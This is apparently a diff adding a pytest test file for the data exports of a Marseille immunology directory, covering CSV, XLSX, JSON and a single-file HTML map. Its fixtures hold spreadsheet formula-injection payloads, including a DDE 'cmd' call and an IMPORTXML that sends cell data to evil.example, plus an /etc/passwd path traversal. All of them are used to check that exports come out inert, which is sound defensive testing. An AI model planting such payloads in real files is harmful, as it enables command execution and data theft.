@@ -1,0 +1,250 @@
+"""Exports read back with pandas, openpyxl and json: exactly the filtered rows, provenance, inert formulas."""
+
+import csv
+import dataclasses
+import io
+import json
+import re
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from ecosystem import columns as C
+from ecosystem.about import build_dictionary
+from ecosystem.exports import (
+    AssetError,
+    Provenance,
+    build_actor_csv,
+    build_actor_json,
+    build_actor_record,
+    build_export_csv,
+    build_export_xlsx,
+    build_map_file,
+    inline_static_assets,
+    neutralise_cell,
+)
+from ecosystem.filters import Filters, filter_actors
+from ecosystem.maps import build_map, build_view
+from ecosystem.share import describe_filters
+from tests.conftest import MINI
+
+PROVENANCE = Provenance(
+    url="https://example.org/eco/directory?type=biotech,pharma",
+    citation="Marseille immunology ecosystem, release 0.1.0 of 27 November 2026. https://example.org/eco/directory?type=biotech,pharma. Licence: CC BY 4.0.",
+    licence="CC BY 4.0 (https://creativecommons.org/licenses/by/4.0/)",
+    release="0.1.0 (2026-11-27)",
+    data_as_of="2026-11-01",
+)
+HOSTILE = [
+    '=HYPERLINK("https://evil.example","click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=cmd|' /C calc'!A0",
+    "\r=1+1",
+    "\uff1d1+1",
+]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 4 91 00 00 00", "'+33 4 91 00 00 00"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("Innate Pharma", "Innate Pharma"),
+        ("a=b", "a=b"),
+        ("-71.05", "-71.05"),  # a plain number stays a number
+        ("+3", "+3"),
+        ("", ""),
+        (43.3, 43.3),
+        (None, None),
+    ],
+)
+def test_neutralise_cell(value, expected):
+    assert neutralise_cell(value) == expected
+
+
+@pytest.fixture(scope="module")
+def hostile(mini):
+    """The mini dataset with formula-like names (tab and CR included: the loader strips them, other sources may not)."""
+    actors = mini.actors.copy()
+    actors.iloc[: len(HOSTILE), actors.columns.get_loc(C.NAME)] = HOSTILE
+    actors.iloc[0, actors.columns.get_loc(C.NOTES)] = '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")'
+    return dataclasses.replace(mini, actors=actors)
+
+
+def test_csv_is_exactly_the_filtered_rows(mini):
+    filters = Filters(type=frozenset({"biotech", "pharma"}))
+    actors = filter_actors(mini, filters)
+    table = pd.read_csv(
+        io.BytesIO(build_export_csv(mini, actors)), dtype=str, keep_default_na=False, encoding="utf-8-sig"
+    )
+    assert list(table[C.ID]) == ["beta-bio", "delta-pharma"]
+    beta = table.set_index(C.ID).loc["beta-bio"]
+    assert beta[C.MODALITIES] == "monoclonal_antibody;multispecific_antibody"
+    assert beta[C.MIB_MEMBER] == "True"
+    assert beta[C.SOURCES] == "https://example.org/beta"
+
+
+def test_csv_formula_like_names_come_out_inert(hostile):
+    # the csv module, as spreadsheets do, keeps a carriage return inside a quoted cell
+    rows = list(csv.DictReader(io.StringIO(build_export_csv(hostile, hostile.actors).decode("utf-8-sig"), newline="")))
+    names = [row[C.NAME] for row in rows]
+    assert names[: len(HOSTILE)] == ["'" + name for name in HOSTILE]
+    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
+    assert rows[0][C.NOTES].startswith("'=IMPORTXML")
+
+
+def _sheet(book, name) -> list[tuple]:
+    return list(book[name].iter_rows(values_only=True))
+
+
+@pytest.mark.parametrize(
+    ("lang", "words"),
+    [
+        ("en", "Type of actor: Biotech or Pharmaceutical group"),
+        ("fr", "Type d'acteur\u00a0: Biotech ou Groupe pharmaceutique"),
+    ],
+)
+def test_xlsx_rows_filter_in_words_url_and_dictionary(mini, lang, words):
+    filters = Filters(type=frozenset({"pharma", "biotech"}))
+    actors = filter_actors(mini, filters)
+    data = build_export_xlsx(
+        mini, actors, build_dictionary(MINI), PROVENANCE, describe_filters(filters, mini, lang), lang
+    )
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["actors", "about", "dictionary"]
+    rows = _sheet(book, "actors")
+    assert rows[0][0] == C.ID
+    assert [row[0] for row in rows[1:]] == ["beta-bio", "delta-pharma"]
+    about = [value for row in _sheet(book, "about") for value in row]
+    assert words in about
+    assert PROVENANCE.url in about
+    assert PROVENANCE.licence in about
+    dictionary = _sheet(book, "dictionary")
+    assert [row[0] for row in dictionary[1:]] == list(mini.schema.columns("actors"))
+
+
+def test_xlsx_formula_like_names_come_out_inert(hostile):
+    data = build_export_xlsx(hostile, hostile.actors, build_dictionary(MINI), PROVENANCE, "", "en")
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    names = [row[1] for row in _sheet(book, "actors")[1:]]
+    # XML reads a carriage return back as a line feed
+    assert [name.replace("\n", "\r") for name in names[: len(HOSTILE)]] == ["'" + name for name in HOSTILE]
+
+
+@pytest.mark.parametrize(
+    ("filters", "lang", "expected"),
+    [
+        (Filters(), "en", "No filter: every actor"),
+        (Filters(), "fr", "Aucun filtre : tous les acteurs"),
+        (
+            Filters(area=frozenset({"oncology"}), founded=(1990, 2020), mib=True),
+            "en",
+            "Therapeutic area: Cancers; Founded between 1990 and 2020; MIB members only",
+        ),
+        (
+            Filters(q="anticorps", scope="elsewhere"),
+            "fr",
+            "Recherche\u00a0: «\u00a0anticorps\u00a0»; Où\u00a0: Ailleurs",
+        ),
+        (Filters(f2030=True, scope="marseille_area"), "en", "Where: Aix-Marseille area; France 2030 laureates only"),
+    ],
+)
+def test_describe_filters(mini, filters, lang, expected):
+    assert describe_filters(filters, mini, lang) == expected
+
+
+# --- one actor's record ------------------------------------------------------------------------
+
+
+def test_actor_json_has_the_record_relations_and_milestones(mini):
+    record = json.loads(build_actor_json(build_actor_record(mini, "beta-bio", "en", PROVENANCE)))
+    assert record["actor"][C.ID] == "beta-bio"
+    assert record["actor"][C.MODALITIES] == ["monoclonal_antibody", "multispecific_antibody"]
+    assert record["actor"][C.FOUNDED] == 1999
+    others = sorted((r["other_id"], r[C.KIND]) for r in record["relations"])
+    assert others == [("alpha-lab", "spin_off_of"), ("eta-fund", "funded_by"), ("mib", "founding_member_of")]
+    assert [m["title_en"] for m in record["milestones"]] == ["Beta is founded", "Series B"]
+    assert record["milestones"][1][C.AMOUNT_EUR] == 48_000_000
+    assert record["url"] == PROVENANCE.url
+    assert record["licence"].startswith("CC BY 4.0")
+
+
+def test_actor_json_sees_relations_from_the_other_side(mini):
+    record = build_actor_record(mini, "delta-pharma", "en", PROVENANCE)
+    (relation,) = record["relations"]
+    assert (relation[C.SOURCE_ID], relation["other_id"]) == ("gamma-dx", "gamma-dx")
+    assert relation["label"] != relation[C.KIND]  # the inverse label, 'Acquired ...'
+
+
+def test_actor_csv_sections(mini):
+    record = build_actor_record(mini, "beta-bio", "fr", PROVENANCE)
+    table = pd.read_csv(io.BytesIO(build_actor_csv(record)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert list(table["section"]) == ["actor", "relation", "relation", "relation", "milestone", "milestone"]
+    assert table[table["section"] == "actor"][C.NAME].item() == "Beta Thérapie"
+    assert set(table[table["section"] == "relation"][C.TARGET_ID]) == {"alpha-lab", "eta-fund", "mib"}
+    assert list(table[table["section"] == "milestone"][C.DATE]) == ["1999", "2020-06-15"]
+
+
+def test_actor_export_is_inert_and_unknown_id_is_none(hostile):
+    actor = hostile.actors.iloc[0]
+    record = build_actor_record(hostile, actor[C.ID], "en", PROVENANCE)
+    table = pd.read_csv(io.BytesIO(build_actor_csv(record)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert table[C.NAME].iloc[0] == "'" + actor[C.NAME]
+    assert build_actor_record(hostile, "no-such-actor", "en", PROVENANCE) is None
+
+
+# --- the map as one file ----------------------------------------------------------------------------
+
+
+def test_map_file_inlines_every_asset_and_keeps_legend_and_credits(real):
+    actors = real.actors
+    fmap = build_map(actors, real.taxonomy, "en", view=build_view(actors), legend_title="Types")
+    page = build_map_file(fmap, title="Marseille immunology ecosystem", provenance=PROVENANCE)
+    assert "app/static" not in page
+    assert not re.search(r"<script[^>]+src=", page)
+    assert not re.search(r"<link[^>]+stylesheet", page)
+    for inside in ("L.markerClusterGroup", "jQuery", "ecosystem-legend", "OpenStreetMap", "CC BY 4.0", PROVENANCE.url):
+        assert inside in page
+    assert page.count("L.marker(") == len(actors.dropna(subset=[C.LAT, C.LON]))
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<script src="https://cdn.example.org/leaflet.js"></script>',
+        '<link rel="stylesheet" href="//cdn.example.org/leaflet.css"/>',
+    ],
+)
+def test_map_file_refuses_network_assets(html):
+    with pytest.raises(AssetError):
+        inline_static_assets(html)
+
+
+def test_inliner_handles_any_static_script_stylesheet_and_image(tmp_path):
+    (tmp_path / "lib" / "img").mkdir(parents=True)
+    (tmp_path / "lib" / "layer.js").write_text("var s = '</script>'; window.LAYER = 1;", encoding="utf-8")
+    (tmp_path / "lib" / "layer.css").write_text(".x{background:url(img/dot.png)}", encoding="utf-8")
+    (tmp_path / "lib" / "img" / "dot.png").write_bytes(b"\x89PNG fake")
+    page = (
+        '<script src="/app/static/lib/layer.js"></script>'
+        '<link rel="stylesheet" href="http://127.0.0.1:8501/app/static/lib/layer.css">'
+        '<img src="app/static/lib/img/dot.png">'
+    )
+    result = inline_static_assets(page, tmp_path)
+    assert "app/static" not in result
+    assert "window.LAYER = 1" in result
+    assert "<\\/script>" in result
+    assert result.count("data:image/png;base64,") == 2
+    with pytest.raises(AssetError):
+        inline_static_assets('<script src="/app/static/lib/missing.js"></script>', tmp_path)
+    with pytest.raises(AssetError):
+        inline_static_assets('<script src="/app/static/../../etc/passwd"></script>', tmp_path)
